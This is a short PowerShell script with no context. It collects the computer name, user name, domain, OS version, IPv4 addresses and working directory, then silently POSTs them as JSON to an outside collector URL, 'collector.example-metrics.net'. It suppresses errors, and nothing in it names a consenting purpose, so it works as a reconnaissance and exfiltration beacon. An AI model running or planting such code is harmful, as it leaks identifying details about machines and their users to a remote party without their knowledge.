$os = Get-CimInstance Win32_OperatingSystem
$ips = (Get-NetIPAddress -AddressFamily IPv4 | Where-Object { $_.IPAddress -ne '127.0.0.1' }).IPAddress

$record = [PSCustomObject]@{
    Computer = $env:COMPUTERNAME
    User     = [Environment]::UserName
    Domain   = $env:USERDOMAIN
    OS       = $os.Caption
    Ips      = $ips -join ','
    Path     = (Get-Location).Path
}

Invoke-RestMethod -Method Post -Uri 'https://collector.example-metrics.net/win' `
    -Body ($record | ConvertTo-Json) -ContentType 'application/json' -ErrorAction SilentlyContinue
